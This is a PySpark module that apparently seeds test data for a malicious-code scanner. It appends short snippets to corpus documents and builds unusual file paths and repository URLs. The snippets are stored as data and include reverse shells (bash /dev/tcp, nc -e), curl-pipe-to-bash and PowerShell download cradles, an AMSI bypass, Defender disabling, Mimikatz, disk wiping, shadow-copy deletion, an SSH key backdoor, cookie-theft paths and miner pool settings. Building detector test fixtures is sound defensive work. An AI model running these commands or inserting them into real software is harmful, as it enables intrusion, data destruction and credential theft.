"""The seeded corpus: every row of ``documents`` with a snippet of code appended.

The documents are prose and trigger few rules.  Each one gets a snippet, chosen
by ``doc_id % 60``, as further lines of its text; ``doc_id % 5`` is its language.
The same snippets stand in the oracle SQL.
"""

import os
import shutil
import tempfile
import uuid
import zipfile
from pathlib import Path

from pyspark import TaskContext
from pyspark.sql import DataFrame, SparkSession, functions as F

from siftmoor.plans.staging import staging_dir
from siftmoor.sources.tables import file_text, spread

RULE_CATEGORIES = ["collection", "execution", "impact", "network"]
LANGUAGES = ["python", "shell", "javascript", "powershell", "config"]

# slot -> lines; slot % 5 is the language
SNIPPETS = {
    # python
    0: "import pickle",
    5: "exec(base64.b64decode(payload))",
    10: "import socket, subprocess\nos.dup2(s.fileno(), 0)",
    15: 'h = "8.8.8.8"\nk = "10.0.0.1"',
    20: 'x = "abcdefghijklmnopqrstuvwx"',
    25: 'requests.post(url, data=open("/etc/passwd"))\npassword = f(requests.post)',
    30: "from pynput.keyboard import Listener\nkeyboard.send(1)",
    35: "cv2.VideoCapture(0)\nimport pyaudio\nimport pyaudio",
    40: 'path = "AppData/Local/Google/Chrome/User Data/Default/Cookies"\nhook = webhook',
    45: 'subprocess.call("ls", shell=True)\nos.system("id")\ngetattr(os, "popen")("id")',
    50: 'eval(compile(src, "f", "exec"))\ncodecs.decode(t, "rot_13")\neval(zlib.decompress(b))',
    55: 'connect(("203.0.113.7", 4444))\nu = "http://evil.example.xyz:4444/a"',
    # shell
    1: "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
    6: "curl http://get.example.com/x.sh | bash",
    11: "chmod 777 /tmp/x\nchmod u+s /bin/sh",
    16: "rm -rf / --no-preserve-root",
    21: 'crontab -l | cat\necho "* * * * * x" >> /var/spool/cron/root',
    26: "nc -e /bin/sh 5.6.7.8 31337",
    31: "mkfifo /tmp/f\nnc -l 9001",
    36: "cat /etc/shadow",
    41: 'echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7xYz" >> ~/.ssh/authorized_keys',
    46: "systemctl enable evil.service",
    51: "dd if=/dev/zero of=/dev/sda",
    56: ":(){:|:&};:\nwget -q -O- http://pypi.org/x | sh",
    # javascript
    2: 'eval(atob("x"))',
    7: 'new Function("return 1")()',
    12: "require('child_process').execSync('ls')",
    17: 'fetch("https://api.evil.tk/c", {method: "POST"})',
    22: 'addEventListener("keydown", f)',
    27: "navigator.mediaDevices.getUserMedia({video: true, audio: true})",
    32: "navigator.clipboard.readText(); navigator.geolocation.getCurrentPosition(f)",
    37: "const t = process.env.TOKEN\ndocument.cookie",
    42: '"postinstall": "node x.js"',
    47: 'new WebSocket("ws://1.1.1.1:8888")',
    52: 'var s = "\\u0041\\u0042\\u0043\\u0044"',
    57: "Buffer.from(data, 'base64')",
    # powershell
    3: "powershell -EncodedCommand ZQBjAGgAbwAgACIAaABlAGwAbABvACIA",
    8: "Set-ExecutionPolicy Bypass -Scope Process",
    13: "IEX (New-Object Net.WebClient).DownloadString('http://1.2.3.04/p.ps1')",
    18: "Invoke-WebRequest -Uri http://github.com/a -OutFile b",
    23: "[Ref].Assembly.GetType('AmsiUtils')",
    28: "Set-MpPreference -DisableRealtimeMonitoring $true",
    33: "New-ItemProperty HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
    38: "schtasks /create /tn x",
    43: "Invoke-Mimikatz; sekurlsa::logonpasswords",
    48: "vssadmin delete shadows /all",
    53: "Start-Process x -WindowStyle Hidden; ShellExecuteW runas",
    58: "[DllImport] SetWindowsHookEx WH_KEYBOARD_LL GetAsyncKeyState",
    # config
    4: "pool: stratum+tcp://pool.minexmr.com:4444 xmrig",
    9: "wallet: bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq42",
    14: "eth: 0x52908400098527886E0F7030069857D2E4169EE7",
    19: "port: 6667",
    24: "host: 169.254.1.1 gateway: 192.0.0.9 other: 100.64.0.1",
    29: "# url: http://comment.example.com/ 9.9.9.9",
    34: 'key: "Zm9vYmFyYmF6cXV4MTIzNDU2Nzg5MGFiY2RlZmdoaWprbG1ub3A="',
    39: "token: ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789",
    44: "ngrok tunnel dns tunnel iodine",
    49: "onion: abc\\.onion socks5 127.0.0.1 9050",
    54: "irc.connect PRIVMSG #chan",
    59: '-- "abcdefghijklmnopqrstuvwxyz0123456789"',
}

# Snippets for branches that the others miss, by doc_id % 10: a rule three times in a file, the sixth combination, the other
# permissions, several strings of very high entropy, carriage returns, all in Python.
_MIXED = "Ab1Cd2Ef3Gh4Ij5Kl6Mn7Op8Qr9St0UvWxYzaBcDeFgHiJkLmNoPqRsTuVwXyZ+/"
BRANCHES = {
    0: 'a = "8.8.8.8"\nb = "8.8.4.4"\nc = "9.9.9.9"\nd = "1.1.1.1"',
    1: "requests.get(u)\nexec(r.text)",
    2: 'import bluetooth\nImageGrab.grab()\nsocket.bind(("", 80))',
    3: "\n".join(f'k{i} = "{_MIXED[i:]}{_MIXED[:i]}"' for i in range(6)),
    4: "import keyring\nos.fork()\nopen('.ssh/id_rsa')",
    5: "\n".join(f'k{i} = "{_MIXED[2 * i:]}{_MIXED[:2 * i]}!"' for i in range(7)),
    6: "import keyboard\nos.getuid() == 0\npyperclip.paste()",
    7: "import pickle\r\nimport pickle\rimport pickle\r\n",
    8: "import sounddevice\nMozilla/Firefox/Profiles\nCLLocationManager",
    9: "eval(x)\neval(y)\neval(z)\neval(w)",
}
DEEP_PATH = "services/payments/gateway/handlers/module_"


def language(number: str = "doc_id") -> F.Column:
    return F.get(F.array(*[F.lit(name) for name in LANGUAGES]), (F.col(number) % len(LANGUAGES)).cast("int"))


def repo_id() -> F.Column:
    return F.concat_ws("/", "lang", (F.floor(F.col("doc_id") / 20) % 20).cast("string"))


def documents(spark: SparkSession, sf_dir: str) -> DataFrame:
    table = spread(spark.read.parquet(f"{sf_dir}/documents.parquet"), "doc_id")
    return file_text(table, repo_id(), F.col("doc_id"), language(), F.col("text"))


def _with_snippets(table: DataFrame) -> DataFrame:
    snippets = table.sparkSession.createDataFrame(list(SNIPPETS.items()), "slot int, snippet string").coalesce(1)
    return spread(table, "doc_id").join(F.broadcast(snippets), F.col("doc_id") % len(SNIPPETS) == F.col("slot"))   # 60 rows


def seeded(spark: SparkSession, sf_dir: str) -> DataFrame:
    table = _with_snippets(spark.read.parquet(f"{sf_dir}/documents.parquet"))
    return file_text(table, repo_id(), F.col("doc_id"), language(), F.concat_ws("\n", "text", "snippet"))


def branches(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Every document under a long path, with a snippet for a rare branch and only its first line of prose, if any."""
    table = spread(spark.read.parquet(f"{sf_dir}/documents.parquet"), "doc_id")
    snippets = spark.createDataFrame(list(BRANCHES.items()), "slot int, snippet string").coalesce(1)
    table = table.join(F.broadcast(snippets), F.col("doc_id") % len(BRANCHES) == F.col("slot"))    # 10 rows
    path = F.concat(F.lit(DEEP_PATH), F.col("doc_id").cast("string"), F.lit(".py"))
    return file_text(table, repo_id(), path, F.lit("python"), F.concat_ws("\n", F.substring_index("text", "\n", 1), "snippet"))


def benchmark_rules(spark: SparkSession, sf_dir: str) -> DataFrame:
    """A catalogue with a rule for each benchmark item; number and length of the items make its fields."""
    table = spark.read.parquet(f"{sf_dir}/benchmark.parquet")
    number = F.col("item_id")
    categories = F.get(F.array(*[F.lit(c) for c in RULE_CATEGORIES]), (F.length("text") % len(RULE_CATEGORIES)).cast("int"))
    languages = F.when(number % 7 == 0, F.array(F.lit("all"))).when(number % 7 == 1, F.array(language("item_id"), F.lit("all"))).otherwise(F.array(language("item_id")))
    pattern = F.array(F.struct(F.substring("text", 1, 20).alias("pattern"), F.lit("literal").alias("type")))
    return table.select(
        number.cast("int").alias("rule_ord"), F.concat(F.lit("ITEM-"), number.cast("string")).alias("rule_id"), F.lit("item").alias("name"),
        categories.alias("category"), F.lit("").alias("subcategory"), F.lit("info").alias("severity"), F.lit(1).alias("weight"),
        languages.alias("languages"), *[F.lit("").alias(c) for c in ("description", "user_message", "mitre_attack", "false_positive_note")],
        pattern.alias("match_patterns"))


def programs(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Every document as a Python program: its text commented out, its snippet below."""
    table = _with_snippets(spark.read.parquet(f"{sf_dir}/documents.parquet"))
    commented = F.concat(F.lit("# "), F.replace("text", F.lit("\n"), F.lit("\n# ")))
    return file_text(table, repo_id(), F.col("doc_id"), F.lit("python"), F.concat_ws("\n", commented, "snippet"))


def conversations(spark: SparkSession, sf_dir: str) -> DataFrame:
    table = spread(spark.read.parquet(f"{sf_dir}/conversations.parquet"), "conv_id", "turn")
    return file_text(table, F.col("conv_id"), F.col("turn"), F.lit("shell"), F.col("text"))


def pages(spark: SparkSession, sf_dir: str) -> DataFrame:
    table = spread(spark.read.parquet(f"{sf_dir}/pages.parquet"), "page_id")
    host = F.regexp_extract("url", "^https?://([^/]+)", 1)
    return file_text(table, host, F.col("page_id"), language("page_id"),
                     F.concat_ws("\n", F.concat(F.lit("url = "), F.col("url")), "html"))


# Names that try every admission rule; page_id picks one.
PATHS = [
    "src/{}.py", "pkg/__init__.py", ".env", ".bashrc", ".hidden.py", "LICENSE", "sub/Makefile", "x.MJS", "notes.txt",
    "node_modules/m.js", "x.egg-info/a.py", "sub/env/a.py", "a.b/c.tar.rb", ".github/w.yml", "..x", "Dockerfile",
    "build.dockerfile", "tool", "dist/z.sh", "CHANGELOG.md", "deep/er/.npmrc", "p.PHTML", "go/main.go", "noext.",
]

# Forms of repository URLs; page_id picks one; {o} and {r} come from the page's host.
URLS = [
    "https://github.com/{o}/{r}", "https://github.com/{o}/{r}.git", "https://github.com/{o}/{r}/tree/dev/x",
    "git@github.com:{o}/{r}.git", " https://www.github.com/{o}/{r}/ ", "https://gitlab.com/{o}/{r}",
    "https://github.com/{o}", "http://GitHub.com/{o}/{r}?tab=x#top", "ftp://github.com/{o}/{r}", "git@gitlab.com:{o}/{r}",
    "https://github.com/{o}/b@d", "https://user@github.com:443/{o}/{r}.github.git", "", "github.com/{o}/{r}",
]


def _choice(options: list[str]) -> F.Column:
    return F.get(F.array(*[F.lit(o) for o in options]), (F.col("page_id") % len(options)).cast("int"))


def page_files(spark: SparkSession, sf_dir: str) -> DataFrame:
    """``files``: the pages' HTML as bytes under names that try every admission rule."""
    table = spark.read.parquet(f"{sf_dir}/pages.parquet")
    path = F.replace(_choice(PATHS), F.lit("{}"), F.col("page_id").cast("string"))
    shebang = F.when(F.col("page_id") % 7 == 3, F.lit("#!/usr/bin/env fish\n")).otherwise(F.lit(""))
    content = F.when(F.col("page_id") % 31 == 30, F.lit("")).otherwise(F.concat(shebang, F.col("html")))
    return table.select(
        F.col("page_id").cast("string").alias("repo_id"), path.alias("path"),
        F.octet_length(content).cast("bigint").alias("size_bytes"), content.cast("binary").alias("content"))


def repo_urls(spark: SparkSession, sf_dir: str) -> DataFrame:
    table = spark.read.parquet(f"{sf_dir}/pages.parquet")
    owner = F.regexp_extract("url", r"^https?://([^./]+)\.", 1)
    url = F.replace(F.replace(_choice(URLS), F.lit("{o}"), owner),
                    F.lit("{r}"), F.concat(F.lit("r"), F.col("page_id").cast("string")))
    return table.select("page_id", url.alias("url"))


def written(spark: SparkSession, sf_dir: str, packed: bool) -> DataFrame:
    """``(repo_id, root)`` of ZIP archives or trees that hold every text of ``documents`` as a file; each task writes one.

    They lie in the shared folder of the session.  A task writes under a name of its own and renames when all is there.  Its rows
    come in pickled batches of a few megabytes; an Arrow batch has 10,000 texts or 64 MB.
    """
    shared = staging_dir(spark) or tempfile.mkdtemp(prefix="written-")
    folder = f"{shared.removeprefix('file:')}/written-{uuid.uuid4().hex}"
    table = spread(spark.read.parquet(f"{sf_dir}/documents.parquet"), "doc_id").where("text is not null")
    path = F.concat_ws("/", F.coalesce("lang", F.lit("none")), (F.floor(F.col("doc_id") / 20) % 20).cast("string"), F.concat("doc_id", F.lit(".py")))

    def write(rows):
        root = f"{folder}/{TaskContext.get().partitionId()}"
        own = f"{root}.{uuid.uuid4().hex}"
        os.makedirs(folder, exist_ok=True)
        if packed:
            with zipfile.ZipFile(own, "w", zipfile.ZIP_DEFLATED) as archive:
                for name, text in rows:
                    archive.writestr(f"top/{name}", text)
        else:
            os.makedirs(own)
            for name, text in rows:
                target = Path(own, name)
                target.parent.mkdir(parents=True, exist_ok=True)
                target.write_bytes(text.encode())
        if packed:
            os.replace(own, root)
        elif os.path.exists(root):
            shutil.rmtree(own)
        else:
            os.rename(own, root)
        yield os.path.basename(root), root

    roots = table.select(path.alias("path"), "text").rdd.mapPartitions(write)
    spark.createDataFrame(roots, "repo_id string, root string").write.parquet(f"{folder}/roots")
    return spark.read.parquet(f"{folder}/roots")
